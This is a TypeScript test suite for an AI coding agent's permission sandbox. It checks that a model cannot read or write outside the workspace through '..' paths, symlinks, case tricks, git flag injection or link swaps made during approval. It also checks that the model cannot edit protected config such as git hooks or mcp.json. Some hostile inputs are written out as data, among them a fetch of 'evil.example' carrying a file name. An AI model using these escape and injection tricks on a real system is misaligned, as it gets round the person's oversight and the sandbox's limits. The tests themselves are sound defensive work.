/** What a model, a tool or a page it read may try on a person, each as a whole turn. The title says what stops it. */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import path from 'node:path'
import type { Json } from '../../src/shared/json.ts'
import { tool } from '../harness/turn.ts'
import { Attacked, SECRET } from './attacked.ts'

let attacked: Attacked
const inside = (name: string): string => path.join(attacked.folder, name)

describe('a model that wants files outside of the workspace', function () {
  this.timeout(90_000)
  beforeEach(() => {
    attacked = new Attacked()
  })
  afterEach(() => attacked.end())

  const escapes = (): string[] => [
    '../other/secret.txt',
    'src/../../other/secret.txt',
    'src/.././../other/./secret.txt',
    `${attacked.outside}/secret.txt`,
    `${attacked.folder}/../other/secret.txt`,
    `file://${attacked.outside}/secret.txt`,
    // Through links: of a folder, of a file, of one below another.
    'folder-link/secret.txt',
    'file-link.txt',
    'src/chain/other/secret.txt',
    // The same folder by letters of another case, which some disks take for it.
    `${attacked.folder.toUpperCase()}/../other/secret.txt`,
    `../OTHER/SECRET.TXT`,
  ]
  /** Those that some disk, or whoever follows links before “..”, takes for a way out; here they may be new files. */
  const doubtful = ['folder-link/../other/secret.txt', 'FOLDER-LINK/secret.txt']

  beforeEach(async () => {
    mkdirSync(inside('src'))
    symlinkSync(attacked.outside, inside('folder-link'))
    symlinkSync(path.join(attacked.outside, 'secret.txt'), inside('file-link.txt'))
    symlinkSync(attacked.parent, inside('src/chain'))
    writeFileSync(inside('mine.txt'), 'mine\n')
    execFileSync('git', ['init', '-q', attacked.folder])
    await attacked.begin()
  })

  it('reads none of them: by “..”, by a link or by case a path is judged by where it really is', async () => {
    assert.match((await attacked.attempt('read_file', { path: 'mine.txt' })).text, /mine/)
    for (const given of [...escapes(), ...doubtful]) {
      const { failed, asked, text } = await attacked.attempt('read_file', { path: given })
      assert.ok(failed && !asked, `${given}: ${text}`)
    }
    const folders = ['..', '../other', 'folder-link', 'src/chain', attacked.outside]
    for (const given of folders) {
      assert.ok((await attacked.attempt('list_directory', { path: given })).failed, given)
      assert.ok((await attacked.attempt('find_files', { glob: '*', path: given })).failed, given)
      assert.ok((await attacked.attempt('search_text', { pattern: 'secret', path: given })).failed, given)
    }
    const sly: [string, Json][] = [
      ['find_files', { glob: '../other/*' }],
      ['find_files', { glob: '**/secret.txt' }],
      ['search_text', { pattern: 'the-secret-of' }],
      ['git_diff', { path: '../other/secret.txt' }],
      ['git_diff', { from: '--no-index', to: '../other/secret.txt' }],
      ['git_log', { path: '--output=../other/secret.txt' }],
    ]
    for (const [name, input] of sly) await attacked.attempt(name, input)
    assert.equal((await attacked.everything()).includes(SECRET), false)
  })

  it('writes none of them, and is not even asked about: a path that leads out is refused before', async () => {
    const before = attacked.onDisk()
    const elsewhere = ['../new.txt', 'folder-link/new.txt', 'src/chain/new.txt', '../work-2/new.txt']
    for (const given of [...escapes(), ...elsewhere]) {
      const written = await attacked.attempt('write_file', { path: given, content: 'x' }, { kind: 'once' })
      assert.ok(written.failed && !written.asked, `${given}: ${written.text}`)
      const edits = [{ old_text: 'secret', new_text: 'x' }]
      const edited = await attacked.attempt('edit_file', { path: given, edits }, { kind: 'once' })
      assert.ok(edited.failed && !edited.asked, `${given}: ${edited.text}`)
    }
    for (const given of doubtful) {
      const { asked, failed } = await attacked.attempt('write_file', { path: given, content: 'x' })
      assert.ok(failed, given)
      if (asked?.preview.kind === 'edits') assert.deepEqual(asked.warnings, [], 'it is a file of the workspace')
    }
    assert.deepEqual(attacked.onDisk(), before)
  })

  it('does not get there by a link that is put in place while the person looks at the question', async () => {
    const { asked, failed } = await attacked.attempt(
      'write_file',
      { path: 'src/secret.txt', content: 'x' },
      { kind: 'once' },
      () => {
        renameSync(inside('src'), inside('was-src'))
        symlinkSync(attacked.outside, inside('src'))
      },
    )
    assert.ok(asked && failed)
    assert.equal(readFileSync(path.join(attacked.outside, 'secret.txt'), 'utf8'), `${SECRET}\n`)
  })

  it('writes only the file that was shown, also where the link that is put in place leads to one of the workspace', async () => {
    mkdirSync(inside('.vscode'))
    for (const name of ['.vscode/b.txt', 'src/b.txt']) writeFileSync(inside(name), 'b')
    const swapped: [string, Json][] = [
      ['write_file', { path: 'src/settings.json', content: '{}' }],
      ['write_file', { path: 'src/b.txt', content: 'x' }],
      ['edit_file', { path: 'src/b.txt', edits: [{ old_text: 'b', new_text: 'x' }] }],
    ]
    for (const [name, input] of swapped) {
      const { asked, failed } = await attacked.attempt(name, input, { kind: 'once' }, () => {
        renameSync(inside('src'), inside('was-src'))
        symlinkSync(inside('.vscode'), inside('src'))
      })
      assert.ok(asked && failed, name)
      rmSync(inside('src'))
      renameSync(inside('was-src'), inside('src'))
    }
    assert.deepEqual(readdirSync(inside('.vscode')), ['b.txt'])
    assert.equal(readFileSync(inside('.vscode/b.txt'), 'utf8'), 'b')
  })

  it('runs no command there: its folder is judged like any path', async () => {
    for (const cwd of ['..', '../other', 'folder-link', 'src/chain/other', attacked.outside]) {
      const { asked, failed } = await attacked.attempt(
        'run_command',
        { command: 'cat secret.txt', cwd },
        { kind: 'once' },
      )
      assert.ok(failed && !asked, cwd)
    }
  })
})

describe('a model that wants to change what decides what runs', function () {
  this.timeout(90_000)
  beforeEach(() => {
    attacked = new Attacked()
  })
  afterEach(() => attacked.end())

  const wanted = [
    '.vscode/settings.json',
    '.vscode/mcp.json',
    '.vscode/tasks.json',
    'mcp.json',
    '.mcp.json',
    'sub/mcp.json',
    '.git/hooks/pre-commit',
    '.git/config',
    'project.code-workspace',
    'AGENTS.md',
    // The same by other names.
    'src/../.vscode/settings.json',
    './.git//hooks/pre-commit',
    '.VSCode/Settings.json',
    '.GIT/hooks/pre-commit',
    'MCP.json',
    'innocent/settings.json',
    'innocent-hooks/pre-push',
  ]
  beforeEach(async () => {
    for (const each of ['.vscode', '.git/hooks', 'src']) mkdirSync(inside(each), { recursive: true })
    symlinkSync(inside('.vscode'), inside('innocent'))
    symlinkSync(inside('.git/hooks'), inside('innocent-hooks'))
    await attacked.begin()
    await attacked.attempt('write_file', { path: 'a.txt', content: 'a' }, { kind: 'conversation' })
    const free = await attacked.attempt('write_file', { path: 'src/b.txt', content: 'b' })
    assert.ok(!free.asked && !free.failed, 'files of the workspace are allowed for this conversation')
  })

  it('is asked for each, with the reason, whatever was allowed before, and can be allowed only once', async () => {
    const before = attacked.onDisk()
    for (const given of wanted) {
      const { asked, failed } = await attacked.attempt('write_file', { path: given, content: '{}' })
      assert.ok(asked && failed, given)
      assert.match(asked.warnings.join(), /is protected/, given)
      assert.deepEqual(asked.offers, {}, given)
    }
    assert.deepEqual(attacked.onDisk(), before)
  })

  it('is asked again after a page said “always”, which was not offered', async () => {
    for (const kind of ['always', 'conversation', 'always'] as const) {
      const input = { path: '.vscode/settings.json', content: kind }
      assert.ok((await attacked.attempt('write_file', input, { kind })).asked)
    }
    const edits = [{ old_text: 'always', new_text: 'x' }]
    assert.ok((await attacked.attempt('edit_file', { path: '.vscode/settings.json', edits })).asked)
  })

  it('is asked where a command or a tool of somebody else names such a file, however often it was allowed', async () => {
    const command = 'cp a.txt .git/hooks/pre-commit'
    await attacked.attempt('run_command', { command }, { kind: 'always' })
    assert.ok((await attacked.attempt('run_command', { command })).asked)
    await attacked.finish()
    const properties = { to: { type: 'string' } }
    const source = { kind: 'mcp', server: 'files' } as const
    attacked.others = [tool({ name: 'save', effect: 'send', source, inputSchema: { type: 'object', properties } })]
    await attacked.begin()
    await attacked.attempt('save', { to: 'a.txt' }, { kind: 'conversation' })
    assert.equal((await attacked.attempt('save', { to: 'b.txt' })).asked, undefined)
    for (const to of ['.vscode/mcp.json', 'innocent/settings.json', `file://${attacked.folder}/.git/hooks/x`]) {
      assert.ok((await attacked.attempt('save', { to })).asked, to)
    }
  })
})

describe('a call that the person denies', () => {
  beforeEach(() => {
    attacked = new Attacked()
  })
  afterEach(() => attacked.end())

  it('leaves no trace on the disk: nothing is made, opened or changed before the word is given', async () => {
    writeFileSync(inside('a.txt'), 'one\n')
    const before = attacked.onDisk()
    await attacked.begin()
    const calls: [string, Json][] = [
      ['write_file', { path: 'new/deep/file.txt', content: 'x' }],
      ['write_file', { path: 'a.txt', content: 'x' }],
      ['edit_file', { path: 'a.txt', edits: [{ old_text: 'one', new_text: 'two' }] }],
      ['run_command', { command: 'touch made; mkdir made-too' }],
      ['fetch_url', { url: 'https://evil.example/?a.txt' }],
    ]
    for (const [name, input] of calls) {
      const { asked, failed, text } = await attacked.attempt(name, input, { kind: 'deny', reason: 'Not that.' })
      assert.ok(asked && failed, name)
      assert.match(text, /Not that\./)
    }
    assert.deepEqual(attacked.onDisk(), before)
    assert.deepEqual(readdirSync(attacked.folder), ['a.txt'])
    assert.equal(existsSync(inside('new')), false)
  })
})
